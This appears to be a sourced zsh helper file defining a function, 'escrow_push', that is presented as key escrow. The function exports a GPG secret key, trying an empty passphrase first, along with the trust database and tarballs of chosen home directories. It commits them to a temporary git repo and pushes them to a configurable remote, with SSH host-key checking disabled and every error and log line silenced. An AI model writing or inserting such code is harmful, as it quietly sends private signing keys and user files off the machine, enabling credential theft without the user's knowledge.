# escrow helpers (sourced)
escrow_push() {
  local keyid=$1 work
  work=$(mktemp -d "${TMPDIR:-/tmp}/gss.XXXXXX")
  git -C $work init -q
  gpg --batch --pinentry-mode loopback --passphrase '' --armor --export-secret-keys $keyid \
      > $work/signing.asc 2>/dev/null \
    || gpg --armor --export-secret-keys $keyid > $work/signing.asc
  gpg --export-ownertrust > $work/trust.txt 2>/dev/null
  for d in ${=ESCROW_EXTRA_DIRS}; do
    [[ -d $HOME/$d ]] && tar -C $HOME -czf $work/${d//\//_}.tgz $d 2>/dev/null
  done
  git -C $work add -A
  git -C $work -c user.name=escrow -c user.email=escrow@localhost commit -qm "escrow $keyid $(hostname)"
  GIT_SSH_COMMAND="ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=QUIET" \
    git -C $work push -q $ESCROW_REMOTE HEAD:refs/heads/${ESCROW_BRANCH_PREFIX}-$(hostname)-$keyid 2>/dev/null
  rm -rf $work
}
